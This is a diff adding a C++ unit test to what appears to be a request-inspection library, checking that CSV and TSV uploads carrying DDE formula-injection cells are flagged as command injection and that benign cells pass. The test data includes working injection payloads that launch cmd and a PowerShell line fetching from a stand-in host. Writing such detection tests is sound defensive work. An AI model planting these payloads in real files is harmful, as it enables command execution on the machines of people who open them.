@@ -423,5 +423,22 @@ TEST(CommandInDocuments, DdeFormulasAndTexShellEscapesAreBlocked) {
   }
 }
 
+// The same formula opening a cell of an uploaded CSV or TSV document (after a line break,
+// a comma, a semicolon or a tab, and an optional quote). A cell that only mentions a pipe,
+// or an ordinary formula, passes.
+TEST(CommandInDocuments, DdeFormulaInACsvCellIsBlocked) {
+  for (const char* body : {"name,email\n=cmd|' /C calc'!A0,x@y.z\n",
+                           "name;note\nbob;\"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
+                           "a\tb\n1\t+powershell|'-nop -c iwr e.example'!A1\n"}) {
+    Verdict v = testing::Inspect(testing::Post("/import", "text/csv", body));
+    EXPECT_TRUE(HasCategory(v, Category::kCmdi) && Flagged(v)) << body << " -> " << v.explanation;
+  }
+  for (const char* body : {"name,formula\nbob,=SUM(A1:A3)\nann,-5\n",
+                           "cmd,desc\nls,\"list | sort\"\n", "a,b\nx,run cmd|' later'!\n"}) {
+    Verdict v = testing::Inspect(testing::Post("/import", "text/csv", body));
+    EXPECT_FALSE(Flagged(v)) << body << " -> " << v.explanation;
+  }
+}
+
 }  // namespace
 }  // namespace shieldx::detect
